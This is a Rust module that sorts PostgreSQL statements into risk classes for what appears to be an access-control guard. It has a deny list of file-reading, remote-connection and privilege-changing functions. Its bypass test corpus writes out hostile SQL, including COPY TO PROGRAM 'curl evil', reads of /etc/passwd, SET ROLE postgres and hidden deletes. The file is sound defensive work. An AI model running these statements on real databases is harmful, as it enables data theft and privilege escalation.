//! Statement classification: what a piece of SQL does, with a real parser
//! for the PostgreSQL dialect (sqlparser), and a conservative fallback —
//! what cannot be parsed is `unknown`, the most restricted class.
//!
//! A statement's class is the most dangerous of everything inside it:
//! data-modifying CTEs, `EXPLAIN ANALYZE` of a write, `COPY (DELETE …
//! RETURNING *) TO STDOUT` and `PREPARE … AS` all count as what they
//! execute. Functions that reach outside the database or change the
//! session's privileges (`pg_read_file`, `lo_export`, `dblink`,
//! `set_config`, …) make a statement `admin`. A message with several
//! statements takes the class of the worst one.

use std::{collections::BTreeSet, fmt, ops::ControlFlow, sync::Arc};

use serde::{Deserialize, Serialize};
use sqlparser::{
    ast::{
        CopySource, CopyTarget, Delete, Expr, FunctionArg, FunctionArgExpr, FunctionArguments,
        Ident, Insert, ObjectName, ObjectType, Query, Select, SelectItem, Set, SetExpr, Statement,
        TableAlias, TableFactor, Update, Visit, Visitor,
    },
    dialect::PostgreSqlDialect,
    parser::Parser,
};

/// Operation classes, least to most restricted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Class {
    Read,
    Write,
    Ddl,
    Admin,
    Unknown,
}

impl fmt::Display for Class {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Class::Read => "read",
            Class::Write => "write",
            Class::Ddl => "ddl",
            Class::Admin => "admin",
            Class::Unknown => "unknown",
        })
    }
}

/// What a message of SQL does.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Classification {
    pub class: Class,
    /// Tables and views named, lowercased, as written (schema-qualified or
    /// not). Shared: every statement with this classification records them.
    pub tables: Arc<[String]>,
    /// Whether `tables` is every table the statements touch. Where the
    /// parser's tree does not say (`GRANT`, `VACUUM`, `CREATE TABLE`, …),
    /// rules that deny or mask by table apply and rules that allow by table
    /// do not.
    pub tables_known: bool,
    /// How many statements the text held (0 when it did not parse).
    pub statements: usize,
    /// Why the text is `unknown`, when it did not parse.
    pub parse_error: Option<String>,
    /// Where each statement's result columns come from (for masking).
    #[serde(skip)]
    pub derivations: Arc<[Derivation]>,
}

/// What a result column's values are computed from: every name its
/// expression mentions (lowercased; columns among them), and whether it
/// carries whole rows (`to_json(o)`, `row_to_json(o.*)`).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Sources {
    pub names: BTreeSet<String>,
    pub whole_row: bool,
}

impl Sources {
    pub fn add(&mut self, other: &Sources) {
        // Only new names are copied: adding what is known allocates nothing.
        for n in &other.names {
            if !self.names.contains(n) {
                self.names.insert(n.clone());
            }
        }
        self.whole_row |= other.whole_row;
    }
}

/// How one statement's result columns are derived, so a masked column
/// stays masked under another name (`card AS c`, `upper(card)`, a
/// subquery's alias, a CTE's column list, a UNION's second branch).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Derivation {
    /// Per result column, when the positions are certain (no `*`).
    pub columns: Option<Vec<Sources>>,
    /// Where positions are not certain: what the computed, unnamed columns
    /// come from (every result column is treated as one of them).
    pub unplaced: Sources,
    /// Names given anywhere in the statement (column aliases, CTE and
    /// derived-table column lists) and what they stand for.
    pub aliases: Vec<(String, Sources)>,
    /// Rows come from something this statement does not show (`FETCH`,
    /// `EXECUTE`, a function's own result).
    pub opaque: bool,
    /// `COPY … TO`: rows leave as COPY data, never masked. `Some(columns)`
    /// when the copy names its columns, `None` for a whole table or query.
    pub copy_out: Option<Option<Vec<String>>>,
}

/// Functions that read or write outside the database, run other SQL, or
/// change privileges or settings: any use makes the statement `admin`.
const ADMIN_FUNCTIONS: &[&str] = &[
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_stat_file",
    "pg_file_write",
    "lo_import",
    "lo_export",
    "lo_from_bytea",
    "lo_put",
    "dblink",
    "dblink_exec",
    "dblink_connect",
    "dblink_open",
    "dblink_send_query",
    "set_config",
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_promote",
    "query_to_xml",
    "query_to_xml_and_xmlschema",
    "cursor_to_xml",
    "table_to_xml",
    "pg_execute_server_program",
    "pg_ls_logdir",
    "pg_ls_waldir",
    "pg_ls_tmpdir",
    "pg_ls_archive_statusdir",
    "pg_file_unlink",
    "pg_file_rename",
    "pg_switch_wal",
    "pg_create_restore_point",
    "pg_logical_emit_message",
    "pg_create_physical_replication_slot",
    "pg_create_logical_replication_slot",
    "pg_drop_replication_slot",
    "pg_stat_reset",
    "pg_stat_reset_shared",
    "pg_stat_reset_single_table_counters",
    "pg_backup_start",
    "pg_backup_stop",
    "pg_start_backup",
    "pg_stop_backup",
    "pg_import_system_collations",
    "pg_log_backend_memory_contexts",
];

/// Functions that change data outside any table a statement names (large
/// objects, sequences): any use makes the statement at least `write`.
const WRITE_FUNCTIONS: &[&str] = &[
    "lowrite",
    "lo_create",
    "lo_creat",
    "lo_unlink",
    "lo_truncate",
    "lo_truncate64",
    "nextval",
    "setval",
];

/// Settings whose change is a privilege change.
const ADMIN_SETTINGS: &[&str] = &["role", "session_authorization", "search_path"];

/// Classifies `sql` (one message: one or more statements).
pub fn classify(sql: &str) -> Classification {
    let stmts = match Parser::parse_sql(&PostgreSqlDialect {}, sql) {
        Ok(s) => s,
        Err(e) => {
            return Classification {
                class: Class::Unknown,
                tables: Arc::new([]),
                tables_known: false,
                statements: 0,
                parse_error: Some(e.to_string()),
                derivations: Arc::new([]),
            }
        }
    };
    let mut v = Walk::default();
    for s in &stmts {
        let _ = s.visit(&mut v);
    }
    if stmts.is_empty() {
        // Only comments or semicolons: nothing runs.
        v.class = Class::Read;
    }
    Classification {
        class: v.class,
        tables: v.tables.into_iter().collect(),
        tables_known: v.tables_known,
        statements: stmts.len(),
        parse_error: None,
        derivations: stmts.iter().map(derive).collect(),
    }
}

impl Derivation {
    /// What result column `i`, named `name` (lowercased), comes from.
    pub fn column(&self, i: usize, name: &str) -> Sources {
        let mut s = Sources::default();
        match &self.columns {
            Some(cols) => s.add(cols.get(i).unwrap_or(&self.unplaced)),
            None => s.add(&self.unplaced),
        }
        for (alias, from) in &self.aliases {
            if alias == name {
                s.add(from);
            }
        }
        s
    }
}

/// How `s`'s result columns are derived.
fn derive(s: &Statement) -> Derivation {
    let mut names = Names::default();
    let _ = s.visit(&mut names);
    let mut d = Derivation {
        aliases: names.aliases,
        ..Derivation::default()
    };
    let relations = &names.relations;
    match s {
        Statement::Query(q) => (d.columns, d.unplaced) = outputs(&q.body, relations),
        Statement::Insert(Insert { returning, .. })
        | Statement::Update(Update { returning, .. })
        | Statement::Delete(Delete { returning, .. }) => {
            (d.columns, d.unplaced) = match returning {
                Some(items) => projection(items, relations),
                None => (Some(Vec::new()), Sources::default()),
            };
        }
        Statement::Copy {
            source, to: true, ..
        } => {
            d.copy_out = Some(match source {
                CopySource::Table { columns, .. } if !columns.is_empty() => {
                    Some(columns.iter().map(ident_name).collect())
                }
                _ => None,
            });
        }
        Statement::Explain { .. } | Statement::ExplainTable { .. } => {}
        _ => d.opaque = true,
    }
    d
}

fn ident_name(i: &Ident) -> String {
    i.value.to_lowercase()
}

/// The result columns of a query body.
fn outputs(body: &SetExpr, relations: &BTreeSet<String>) -> (Option<Vec<Sources>>, Sources) {
    match body {
        SetExpr::Select(sel) => projection(&sel.projection, relations),
        SetExpr::Query(q) => outputs(&q.body, relations),
        SetExpr::SetOperation { left, right, .. } => {
            let (l, mut lu) = outputs(left, relations);
            let (r, ru) = outputs(right, relations);
            lu.add(&ru);
            match (l, r) {
                (Some(mut l), Some(r)) if l.len() == r.len() => {
                    for (a, b) in l.iter_mut().zip(&r) {
                        a.add(b);
                    }
                    (Some(l), lu)
                }
                (l, r) => {
                    for s in l.iter().chain(r.iter()).flatten() {
                        lu.add(s);
                    }
                    (None, lu)
                }
            }
        }
        SetExpr::Values(v) => {
            let width = v.rows.first().map_or(0, |r| r.content.len());
            let mut cols = vec![Sources::default(); width];
            for row in &v.rows {
                for (c, e) in cols.iter_mut().zip(&row.content) {
                    c.add(&sources(e, relations));
                }
            }
            (Some(cols), Sources::default())
        }
        SetExpr::Insert(s) | SetExpr::Update(s) | SetExpr::Delete(s) => {
            let d = derive(s);
            (d.columns, d.unplaced)
        }
        // `TABLE t` and the like: real column names, like `*`.
        _ => (None, Sources::default()),
    }
}

/// The result columns of a projection: per position when no `*` makes
/// positions uncertain; otherwise the sources of its computed columns.
fn projection(
    items: &[SelectItem],
    relations: &BTreeSet<String>,
) -> (Option<Vec<Sources>>, Sources) {
    let mut cols = Vec::with_capacity(items.len());
    let mut unplaced = Sources::default();
    let mut wildcard = false;
    for item in items {
        let s = match item {
            SelectItem::UnnamedExpr(e) => {
                let s = sources(e, relations);
                // A bare column keeps its name; anything else gets one of
                // PostgreSQL's invention.
                if !matches!(e, Expr::Identifier(_) | Expr::CompoundIdentifier(_)) || s.whole_row {
                    unplaced.add(&s);
                }
                s
            }
            SelectItem::ExprWithAlias { expr, .. } | SelectItem::ExprWithAliases { expr, .. } => {
                sources(expr, relations)
            }
            SelectItem::QualifiedWildcard(..) | SelectItem::Wildcard(_) => {
                wildcard = true;
                Sources::default()
            }
        };
        cols.push(s);
    }
    if wildcard {
        (None, unplaced)
    } else {
        (Some(cols), unplaced)
    }
}

/// What `e` is computed from.
fn sources(e: &Expr, relations: &BTreeSet<String>) -> Sources {
    let mut c = Mentions {
        relations,
        found: Sources::default(),
    };
    let _ = e.visit(&mut c);
    c.found
}

/// Every column an expression mentions (the last part of a qualified
/// name); a bare name that is a relation of the statement, or `o.*`, is a
/// whole row.
struct Mentions<'a> {
    relations: &'a BTreeSet<String>,
    found: Sources,
}

impl Visitor for Mentions<'_> {
    type Break = ();

    fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<()> {
        match e {
            Expr::Identifier(i) => {
                let name = ident_name(i);
                if self.relations.contains(&name) {
                    self.found.whole_row = true;
                }
                self.found.names.insert(name);
            }
            Expr::CompoundIdentifier(parts) => {
                if let Some(last) = parts.last() {
                    self.found.names.insert(ident_name(last));
                }
            }
            Expr::QualifiedWildcard(..) => self.found.whole_row = true,
            Expr::Function(f) => {
                if let FunctionArguments::List(list) = &f.args {
                    let whole = list.args.iter().any(|a| {
                        let (FunctionArg::Named { arg, .. }
                        | FunctionArg::ExprNamed { arg, .. }
                        | FunctionArg::Unnamed(arg)) = a;
                        matches!(arg, FunctionArgExpr::QualifiedWildcard(_))
                    });
                    self.found.whole_row |= whole;
                }
            }
            _ => {}
        }
        ControlFlow::Continue(())
    }
}

/// Relation names and aliases in a statement, and every alias it gives.
#[derive(Default)]
struct Names {
    relations: BTreeSet<String>,
    aliases: Vec<(String, Sources)>,
}

impl Names {
    /// `name(a, b, …)` over a query: each listed name stands for the
    /// query's column in that position (all of them where uncertain).
    fn column_list(&mut self, alias: &TableAlias, q: &Query) {
        if alias.columns.is_empty() {
            return;
        }
        let (cols, unplaced) = outputs(&q.body, &self.relations);
        for (i, c) in alias.columns.iter().enumerate() {
            let s = match &cols {
                Some(cols) => cols.get(i).cloned().unwrap_or_default(),
                None => unplaced.clone(),
            };
            self.aliases.push((ident_name(&c.name), s));
        }
    }
}

impl Visitor for Names {
    type Break = ();

    fn pre_visit_relation(&mut self, r: &ObjectName) -> ControlFlow<()> {
        self.relations.insert(last_part(r));
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, t: &TableFactor) -> ControlFlow<()> {
        match t {
            TableFactor::Derived {
                subquery,
                alias: Some(a),
                ..
            } => {
                self.relations.insert(ident_name(&a.name));
                self.column_list(a, subquery);
            }
            TableFactor::Table { alias: Some(a), .. }
            | TableFactor::Function { alias: Some(a), .. }
            | TableFactor::UNNEST { alias: Some(a), .. } => {
                self.relations.insert(ident_name(&a.name));
            }
            _ => {}
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_query(&mut self, q: &Query) -> ControlFlow<()> {
        for cte in q.with.iter().flat_map(|w| &w.cte_tables) {
            self.relations.insert(ident_name(&cte.alias.name));
            self.column_list(&cte.alias, &cte.query);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, sel: &Select) -> ControlFlow<()> {
        for item in &sel.projection {
            match item {
                SelectItem::ExprWithAlias { expr, alias } => {
                    let s = sources(expr, &self.relations);
                    self.aliases.push((ident_name(alias), s));
                }
                SelectItem::ExprWithAliases { expr, aliases } => {
                    let s = sources(expr, &self.relations);
                    for a in aliases {
                        self.aliases.push((ident_name(a), s.clone()));
                    }
                }
                _ => {}
            }
        }
        ControlFlow::Continue(())
    }
}

/// One pass over the AST, raising the class as it goes.
struct Walk {
    class: Class,
    tables: BTreeSet<String>,
    tables_known: bool,
}

impl Default for Walk {
    fn default() -> Self {
        Walk {
            class: Class::Read,
            tables: BTreeSet::new(),
            tables_known: true,
        }
    }
}

/// A table (or other relation) as written, lowercased, quotes removed.
fn table_name(r: &ObjectName) -> String {
    r.0.iter()
        .map(|p| p.to_string().trim_matches('"').to_lowercase())
        .collect::<Vec<_>>()
        .join(".")
}

/// Statements whose every table the walk finds (the rest leave the
/// table list in doubt).
fn tables_listed(s: &Statement) -> bool {
    use Statement as S;
    matches!(
        s,
        S::Query(_)
            | S::Insert(_)
            | S::Update(_)
            | S::Delete(_)
            | S::Merge(_)
            | S::Truncate(_)
            | S::Lock(_)
            | S::Copy { .. }
            | S::Drop { .. }
            | S::AlterTable(_)
            | S::CreateIndex(_)
            | S::Explain { .. }
            | S::ExplainTable { .. }
            | S::Prepare { .. }
            | S::Declare { .. }
            | S::StartTransaction { .. }
            | S::Commit { .. }
            | S::Rollback { .. }
            | S::Savepoint { .. }
            | S::ReleaseSavepoint { .. }
            | S::Fetch { .. }
            | S::Close { .. }
            | S::Deallocate { .. }
            | S::Discard { .. }
            | S::ShowVariable { .. }
            | S::ShowVariables { .. }
            | S::Set(_)
    )
}

impl Walk {
    fn raise(&mut self, c: Class) {
        self.class = self.class.max(c);
    }
}

fn last_part(name: &ObjectName) -> String {
    name.0
        .last()
        .map(|p| p.to_string().trim_matches('"').to_lowercase())
        .unwrap_or_default()
}

impl Visitor for Walk {
    type Break = ();

    fn pre_visit_statement(&mut self, s: &Statement) -> ControlFlow<()> {
        let c = statement_class(s);
        self.raise(c);
        match s {
            Statement::Copy {
                source: CopySource::Table { table_name: t, .. },
                ..
            } => {
                self.tables.insert(table_name(t));
            }
            Statement::Drop { names, .. } => self.tables.extend(names.iter().map(table_name)),
            _ => {}
        }
        self.tables_known &= tables_listed(s);
        ControlFlow::Continue(())
    }

    fn pre_visit_query(&mut self, q: &Query) -> ControlFlow<()> {
        // Row locks (FOR UPDATE/SHARE) are writes in all but name.
        if !q.locks.is_empty() {
            self.raise(Class::Write);
        }
        if let SetExpr::Select(sel) = q.body.as_ref() {
            if sel.into.is_some() {
                // SELECT … INTO creates a table.
                self.raise(Class::Ddl);
            }
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, r: &ObjectName) -> ControlFlow<()> {
        // Set-returning functions in FROM (`FROM dblink(…)`) arrive here too.
        if ADMIN_FUNCTIONS.contains(&last_part(r).as_str()) {
            self.raise(Class::Admin);
        }
        self.tables.insert(table_name(r));
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<()> {
        if let Expr::Function(f) = e {
            let name = last_part(&f.name);
            if ADMIN_FUNCTIONS.contains(&name.as_str()) {
                self.raise(Class::Admin);
            } else if WRITE_FUNCTIONS.contains(&name.as_str()) {
                self.raise(Class::Write);
            }
        }
        ControlFlow::Continue(())
    }
}

/// The class of one statement node on its own (nested statements, queries
/// and expressions are visited separately and can only raise it).
fn statement_class(s: &Statement) -> Class {
    use Statement as S;
    match s {
        S::Query(_)
        | S::ExplainTable { .. }
        | S::Explain { .. }
        | S::Prepare { .. }
        | S::StartTransaction { .. }
        | S::Commit { .. }
        | S::Rollback { .. }
        | S::Savepoint { .. }
        | S::ReleaseSavepoint { .. }
        | S::Declare { .. }
        | S::Fetch { .. }
        | S::Close { .. }
        | S::Deallocate { .. }
        | S::Discard { .. }
        | S::ShowVariable { .. }
        | S::ShowVariables { .. } => Class::Read,
        S::Insert(_) | S::Update(_) | S::Delete(_) | S::Merge(_) | S::Truncate(_) | S::Lock(_) => {
            Class::Write
        }
        S::Copy { target, to, .. } => match target {
            CopyTarget::Program { .. } | CopyTarget::File { .. } => Class::Admin,
            _ if *to => Class::Read,
            _ => Class::Write,
        },
        // EXECUTE runs a statement prepared earlier, whose text we may not have.
        S::Execute { .. } => Class::Unknown,
        S::Set(set) => match set {
            Set::SetRole { .. } | Set::SetSessionAuthorization(_) => Class::Admin,
            Set::SingleAssignment { variable, .. } => {
                if ADMIN_SETTINGS.contains(&last_part(variable).as_str()) {
                    Class::Admin
                } else {
                    Class::Read
                }
            }
            Set::ParenthesizedAssignments { variables, .. } => {
                if variables
                    .iter()
                    .any(|v| ADMIN_SETTINGS.contains(&last_part(v).as_str()))
                {
                    Class::Admin
                } else {
                    Class::Read
                }
            }
            _ => Class::Admin,
        },
        S::Drop { object_type, .. } => match object_type {
            ObjectType::Role | ObjectType::User | ObjectType::Database => Class::Admin,
            _ => Class::Ddl,
        },
        S::Grant(_) | S::Revoke(_) | S::CreateRole(_) | S::AlterRole { .. } | S::Call(_) => {
            Class::Admin
        }
        other => by_keyword(other),
    }
}

/// The rest, by the statement's leading keywords.
fn by_keyword(s: &Statement) -> Class {
    let text = s.to_string().to_ascii_uppercase();
    let mut words = text.split_whitespace();
    let first = words.next().unwrap_or_default();
    let second = words.next().unwrap_or_default();
    match first {
        "CREATE" | "ALTER" | "DROP" | "COMMENT" => match second {
            "ROLE" | "USER" | "GROUP" | "DATABASE" | "EXTENSION" | "SERVER" | "SYSTEM" => {
                Class::Admin
            }
            _ => Class::Ddl,
        },
        "LISTEN" | "UNLISTEN" | "NOTIFY" | "SHOW" | "RESET" => Class::Read,
        "GRANT" | "REVOKE" | "VACUUM" | "ANALYZE" | "CHECKPOINT" | "REINDEX" | "CLUSTER"
        | "LOAD" | "KILL" => Class::Admin,
        _ => Class::Unknown,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn class(sql: &str) -> Class {
        classify(sql).class
    }

    #[test]
    fn plain_statements() {
        assert_eq!(class("select * from orders where id = $1"), Class::Read);
        assert_eq!(class("INSERT INTO orders VALUES (1)"), Class::Write);
        assert_eq!(class("update orders set x = 1"), Class::Write);
        assert_eq!(class("delete from orders"), Class::Write);
        assert_eq!(class("truncate orders"), Class::Write);
        assert_eq!(class("create table t (a int)"), Class::Ddl);
        assert_eq!(class("alter table t add column b int"), Class::Ddl);
        assert_eq!(class("drop table t"), Class::Ddl);
        assert_eq!(class("create role x login"), Class::Admin);
        assert_eq!(class("grant select on t to x"), Class::Admin);
        assert_eq!(class("begin"), Class::Read);
        assert_eq!(class("commit"), Class::Read);
        assert_eq!(class(""), Class::Read);
        assert_eq!(class("this is not sql"), Class::Unknown);
    }

    /// Known ways to hide a write or an admin action inside something else.
    #[test]
    fn bypass_corpus() {
        let cases = [
            (
                "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
                Class::Write,
            ),
            ("EXPLAIN ANALYZE DELETE FROM orders", Class::Write),
            (
                "COPY (DELETE FROM orders RETURNING *) TO STDOUT",
                Class::Write,
            ),
            ("COPY orders TO PROGRAM 'curl evil'", Class::Admin),
            ("COPY orders FROM '/etc/passwd'", Class::Admin),
            ("COPY orders FROM STDIN", Class::Write),
            ("COPY orders TO STDOUT", Class::Read),
            ("SELECT lowrite(lo_open(1, 131072), 'x')", Class::Write),
            ("SELECT setval('orders_id_seq', 1)", Class::Write),
            ("SELECT pg_catalog.pg_switch_wal()", Class::Admin),
            ("DO $$ BEGIN DELETE FROM orders; END $$", Class::Unknown),
            ("CALL cleanup()", Class::Admin),
            ("PREPARE p AS DELETE FROM orders", Class::Write),
            ("EXECUTE p", Class::Unknown),
            ("SELECT 1; DELETE FROM orders", Class::Write),
            (
                "SELECT /* harmless */ 1; -- comment\n DROP TABLE orders",
                Class::Ddl,
            ),
            ("SET ROLE postgres", Class::Admin),
            ("SET SESSION AUTHORIZATION postgres", Class::Admin),
            ("SET search_path = evil, public", Class::Admin),
            ("SET statement_timeout = 1000", Class::Read),
            ("SELECT set_config('role', 'postgres', false)", Class::Admin),
            ("SELECT pg_read_file('/etc/passwd')", Class::Admin),
            ("SELECT lo_export(1234, '/tmp/x')", Class::Admin),
            (
                "SELECT * FROM dblink('host=x', 'delete from t') AS t(a int)",
                Class::Admin,
            ),
            ("SELECT pg_catalog.pg_read_file('x')", Class::Admin),
            ("SELECT * FROM orders FOR UPDATE", Class::Write),
            ("SELECT * INTO newtable FROM orders", Class::Ddl),
            ("SELECT $$DELETE FROM orders$$", Class::Read),
        ];
        for (sql, want) in cases {
            assert_eq!(class(sql), want, "{sql}");
        }
    }

    #[test]
    fn tables_are_listed() {
        let c = classify("select * from public.Orders o join \"Line Items\" l on true; delete from billing.invoices");
        assert_eq!(
            &c.tables[..],
            ["billing.invoices", "line items", "public.orders"]
        );
        assert_eq!(c.statements, 2);
    }

    #[test]
    fn deep_nesting_does_not_crash() {
        let sql = format!("select {}1{}", "(".repeat(5000), ")".repeat(5000));
        let c = classify(&sql);
        assert!(matches!(c.class, Class::Read | Class::Unknown));
    }

    /// Statements that share a classification key classify alike. Pairs
    /// are built from the same code with values and comments of the same
    /// kinds but other contents, drawn from what confuses scanners (quotes,
    /// backslashes, dollar tags, comment markers, carriage returns, hidden
    /// statements). Where the keys match, the classification must too;
    /// otherwise a harmless statement could lend its class to a harmful one.
    #[test]
    fn a_shared_classification_key_means_a_shared_classification() {
        const CODE: &[&str] = &[
            "SELECT ",
            "DELETE FROM victim",
            "; ",
            ", ",
            " FROM t",
            " AS a",
            "(",
            ")",
            " WHERE x = ",
            "INSERT INTO t VALUES (",
            "name",
            "E",
            " ",
        ];
        const ATOMS: &[&str] = &[
            "x",
            "x",
            "ab",
            " ",
            " ",
            "1",
            "'",
            "''",
            "\\",
            "$",
            "$q$",
            "/*",
            "*/",
            "--",
            "\n",
            "\r",
            ";",
            " DELETE FROM victim ",
            " SELECT 2 ",
            "\u{e9}",
            "\"",
            "\x0b",
        ];
        let mut seed = 0x2545_f491_4f6c_dd1du64;
        let mut next = move |n: usize| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed % n as u64) as usize
        };
        let (mut same, mut key_a, mut key_b) = (0, String::new(), String::new());
        for _ in 0..4000 {
            let (mut a, mut b) = (String::new(), String::new());
            for _ in 0..1 + next(6) {
                let code = CODE[next(CODE.len())];
                a.push_str(code);
                b.push_str(code);
                let slot = next(7);
                for text in [&mut a, &mut b] {
                    let content: String = (0..next(4)).map(|_| ATOMS[next(ATOMS.len())]).collect();
                    let digits: String = (0..1 + next(3)).map(|_| ATOMS[5]).collect();
                    text.push_str(&match slot {
                        0 => format!("'{content}'"),
                        1 => format!("E'{content}'"),
                        2 => format!("$q${content}$q$"),
                        3 => format!("/*{content}*/"),
                        4 => format!("--{content}\n"),
                        5 => digits,
                        _ => format!("\"{content}\""),
                    });
                }
            }
            let cacheable = crate::redact::classification_key(&a, &mut key_a)
                && crate::redact::classification_key(&b, &mut key_b);
            if !cacheable || key_a != key_b {
                continue;
            }
            same += 1;
            let (ca, cb) = (classify(&a), classify(&b));
            assert_eq!(
                (ca.class, &ca.tables, ca.statements),
                (cb.class, &cb.tables, cb.statements),
                "{a:?} and {b:?} share the key {key_a:?}"
            );
        }
        assert!(
            same > 400,
            "only {same} pairs shared a key: the test lost its teeth"
        );
    }
}
